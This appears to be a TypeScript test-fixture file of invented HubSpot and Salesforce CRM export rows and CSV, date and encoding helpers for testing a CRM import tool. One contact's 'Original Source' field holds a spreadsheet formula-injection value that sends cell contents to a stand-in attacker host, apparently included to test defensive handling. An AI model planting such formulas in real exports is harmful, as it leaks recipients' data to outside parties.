/**
 * CRM export fixtures, written from the column names the vendors document (HubSpot's contacts
 * and deals exports, Salesforce's leads and opportunities reports) with made-up people: no
 * real person's data. Unit tests (test/unit/crm-*.test.ts) and the end-to-end test
 * (test/e2e/crm.spec.ts) build their files from these and compute the expected figures by hand.
 */

export const HUBSPOT_CONTACT_COLUMNS = [
  'Record ID',
  'First Name',
  'Last Name',
  'Email',
  'Company Name',
  'Contact owner',
  'Lifecycle Stage',
  'Lead Status',
  'Create Date',
  'Became a Lead Date',
  'Became a Marketing Qualified Lead Date',
  'Became a Sales Qualified Lead Date',
  'Became a Customer Date',
  'Original Source',
  'HubSpot Score',
] as const;

type Row = Record<string, string>;

/**
 * Eight contacts over January and February 2024 (see crm-domain.test.ts for the figures worked
 * out by hand). Owner, names, e-mails and companies are the personal data that must never
 * reach the aggregates.
 */
export function hubspotContacts(): Row[] {
  const c = (first: string, last: string, company: string, owner: string, stage: string, status: string, created: string, lead: string, mql: string, sql: string, customer: string, source: string, score: string): Row => ({
    'Record ID': String(1000 + first.length * 7 + last.length),
    'First Name': first,
    'Last Name': last,
    Email: `${first.toLowerCase()}.${last.toLowerCase()}@example.com`,
    'Company Name': company,
    'Contact owner': owner,
    'Lifecycle Stage': stage,
    'Lead Status': status,
    'Create Date': created,
    'Became a Lead Date': lead,
    'Became a Marketing Qualified Lead Date': mql,
    'Became a Sales Qualified Lead Date': sql,
    'Became a Customer Date': customer,
    'Original Source': source,
    'HubSpot Score': score,
  });
  return [
    c('Ada', 'Quillfeather', 'Analytic Engines Ltd', 'Grace Hopperton', 'Customer', 'Connected', '2024-01-03 09:00', '2024-01-03 09:00', '2024-01-05 10:00', '2024-01-05 20:00', '2024-01-20 10:00', 'Organic Search', '80'),
    c('Bob', 'Stonewright', 'Stonewright & Sons', 'Grace Hopperton', 'Sales Qualified Lead', 'In Progress', '2024-01-10 08:00', '2024-01-10 08:00', '2024-01-12 08:00', '2024-01-14 08:00', '', 'Paid Search', '70'),
    c('Cara', 'Mintwhistle', 'Mint Labs', '', 'Marketing Qualified Lead', 'Unqualified', '2024-01-15 00:00', '2024-01-15 00:00', '2024-01-16 12:00', '', '', 'Organic Search', '65'),
    c('Dan', 'Oakenshaw', 'Oak Logistics', 'Lin Marlowe', 'Lead', 'Bad Timing', '2024-01-20 00:00', '2024-01-20 00:00', '', '', '', 'Email Marketing', '20'),
    c('Eve', 'Larkspur', 'Lark, Spur "and" Co', 'Lin Marlowe', 'Subscriber', '', '2024-01-25 00:00', '', '', '', '', '=HYPERLINK("http://attacker.example/?x="&A1)', '5'),
    c('Finn', 'Brackwater', 'Brackwater\nHoldings', 'Grace Hopperton', 'Sales Qualified Lead', 'Connected', '2024-02-02 09:00', '2024-02-02 09:00', '2024-02-03 09:00', '2024-02-03 21:00', '', 'Referrals', '90'),
    c('Gina', 'Thistledown', 'Thistle Co', 'Lin Marlowe', 'Marketing Qualified Lead', 'Attempted to Contact', '2024-02-10 00:00', '2024-02-10 00:00', '2024-02-11 08:00', '', '', 'Direct Traffic', '55'),
    c('Hal', 'Fernsby', 'Fernsby GmbH', 'Grace Hopperton', 'Opportunity', 'Open Deal', '2024-02-12 00:00', '2024-02-12 00:00', '2024-02-13 08:00', '2024-02-13 10:00', '', 'Organic Search', '75'),
  ];
}

export interface CsvOptions {
  readonly delimiter?: string;
  readonly eol?: string;
}

/** A CSV file as a spreadsheet or a CRM writes it: fields quoted when they hold the delimiter, a quote or a line break. */
export function toCsvText(columns: readonly string[], rows: readonly Row[], opts: CsvOptions = {}): string {
  const d = opts.delimiter ?? ',';
  const eol = opts.eol ?? '\r\n';
  const cell = (v: string) => (v.includes(d) || /["\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
  return [columns.map(cell).join(d), ...rows.map((r) => columns.map((col) => cell(r[col] ?? '')).join(d))].join(eol) + eol;
}

/** Rows as arrays in the columns' order (what the parser hands the reducer). */
export function toCells(columns: readonly string[], rows: readonly Row[]): string[][] {
  return rows.map((r) => columns.map((c) => r[c] ?? ''));
}

/** 2024-01-03 09:00 as 03.01.2024 09:00 (a European spreadsheet's re-save). */
export function europeanDate(iso: string): string {
  const m = /^(\d{4})-(\d{2})-(\d{2})(?: (\d{2}:\d{2}))?$/.exec(iso);
  if (!m) return iso;
  return `${m[3]}.${m[2]}.${m[1]}${m[4] ? ` ${m[4]}` : ''}`;
}

/** 2024-01-03 09:00 as 01/03/2024 09:00 AM (a US report). */
export function usDate(iso: string): string {
  const m = /^(\d{4})-(\d{2})-(\d{2})(?: (\d{2}):(\d{2}))?$/.exec(iso);
  if (!m) return iso;
  if (!m[4]) return `${m[2]}/${m[3]}/${m[1]}`;
  const h = Number(m[4]);
  const h12 = h % 12 === 0 ? 12 : h % 12;
  return `${m[2]}/${m[3]}/${m[1]} ${h12}:${m[5]} ${h < 12 ? 'AM' : 'PM'}`;
}

/** Windows-1252 bytes of a text made of Latin-1 characters (what a European Excel saves). */
export function windows1252(text: string): Uint8Array {
  const out = new Uint8Array(text.length);
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    if (code > 0xff) throw new Error('not a Latin-1 character');
    out[i] = code;
  }
  return out;
}

export function utf16(text: string, endian: 'le' | 'be', bom: boolean): Uint8Array {
  const body = bom ? `\uFEFF${text}` : text;
  const out = new Uint8Array(body.length * 2);
  for (let i = 0; i < body.length; i++) {
    const c = body.charCodeAt(i);
    out[2 * i + (endian === 'le' ? 0 : 1)] = c & 0xff;
    out[2 * i + (endian === 'le' ? 1 : 0)] = c >> 8;
  }
  return out;
}

export const SALESFORCE_LEAD_COLUMNS = ['First Name', 'Last Name', 'Email', 'Company / Account', 'Lead Owner', 'Lead Status', 'Lead Source', 'Created Date', 'Converted'] as const;

export function salesforceLeads(): Row[] {
  const l = (first: string, last: string, owner: string, status: string, source: string, created: string, converted: string): Row => ({
    'First Name': first,
    'Last Name': last,
    Email: `${first.toLowerCase()}@example.org`,
    'Company / Account': `${last} Industries`,
    'Lead Owner': owner,
    'Lead Status': status,
    'Lead Source': source,
    'Created Date': created,
    Converted: converted,
  });
  return [
    l('Ivo', 'Pennyworth', 'Mara Quint', 'Open - Not Contacted', 'Web', '4/2/2024', '0'),
    l('Jo', 'Ravensworth', 'Mara Quint', 'Working - Contacted', 'Phone Inquiry', '4/15/2024', '0'),
    l('Kit', 'Saltmarsh', 'Mara Quint', 'Closed - Converted', 'Partner Referral', '4/20/2024', '1'),
    l('Lu', 'Tanglewood', 'Ola Brisk', 'Closed - Not Converted', 'Web', '5/3/2024', '0'),
    l('Mo', 'Underhill', 'Ola Brisk', 'Nurture later', 'Trade Show', '5/13/2024', '0'),
  ];
}

export const HUBSPOT_DEAL_COLUMNS = ['Deal Name', 'Deal owner', 'Pipeline', 'Deal Stage', 'Amount', 'Create Date', 'Close Date'] as const;

export function hubspotDeals(): Row[] {
  const d = (name: string, stage: string, amount: string, created: string, closed: string): Row => ({
    'Deal Name': name,
    'Deal owner': 'Pat Emberly',
    Pipeline: 'Sales Pipeline',
    'Deal Stage': stage,
    Amount: amount,
    'Create Date': created,
    'Close Date': closed,
  });
  return [
    d('Acme renewal', 'Closed Won', '12000', '2024-01-05', '2024-02-04'),
    d('Birch upsell', 'Closed Won', '3,500.50', '2024-02-01', '2024-02-11'),
    d('Cedar pilot', 'Closed Lost', '8000', '2024-02-10', '2024-03-01'),
    d('Dune rollout', 'Contract Sent', '20000', '2024-03-02', '2024-04-30'),
  ];
}

export const SALESFORCE_OPPORTUNITY_COLUMNS = ['Opportunity Name', 'Account Name', 'Opportunity Owner', 'Stage', 'Amount', 'Close Date', 'Created Date', 'Won', 'Closed'] as const;

export function salesforceOpportunities(): Row[] {
  const o = (name: string, stage: string, amount: string, closed: string, created: string, won: string, isClosed: string): Row => ({
    'Opportunity Name': name,
    'Account Name': `${name} Account`,
    'Opportunity Owner': 'Rae Cobble',
    Stage: stage,
    Amount: amount,
    'Close Date': closed,
    'Created Date': created,
    Won: won,
    Closed: isClosed,
  });
  return [
    o('Elm expansion', 'Closed Won', '$5,000.00', '7/10/2024', '6/1/2024', '1', '1'),
    o('Fir platform', 'Closed Lost', '$9,000.00', '7/20/2024', '6/15/2024', '0', '1'),
    o('Gum services', 'Negotiation/Review', '$4,000.00', '9/30/2024', '7/1/2024', '0', '0'),
  ];
}

/** The firmographic columns a HubSpot contacts export has when they are picked for it (company size, country, revenue). */
export const HUBSPOT_FIRMOGRAPHIC_COLUMNS = [...HUBSPOT_CONTACT_COLUMNS, 'Number of Employees', 'Country/Region', 'Annual Revenue'] as const;

/**
 * The eight contacts of `hubspotContacts` with their company's size, country and revenue, the
 * values fit rules are about (test/unit/fit-rules.test.ts works out each one's points by hand).
 * The edges on purpose: 1,000 and 50 on a range's ends, 1,001 just past it, 5,000,000 on
 * "at least 5M", a size written in words, a European amount, a country in another case.
 */
export function hubspotContactsWithFirmographics(): Row[] {
  const firm: Record<string, [string, string, string]> = {
    Ada: ['200', 'United Kingdom', '12,000,000'],
    Bob: ['1,000', 'Germany', '4999999'],
    Cara: ['50', 'France', '5000000'],
    Dan: ['8', 'Germany', ''],
    Eve: ['', '', ''],
    Finn: ['1001', 'united kingdom ', '6000000'],
    Gina: ['fifty', 'Germany', '20000000'],
    Hal: ['120', 'Germany', '€7.500.000'],
  };
  return hubspotContacts().map((r) => {
    const [size, country, revenue] = firm[r['First Name']!]!;
    return { ...r, 'Number of Employees': size, 'Country/Region': country, 'Annual Revenue': revenue };
  });
}
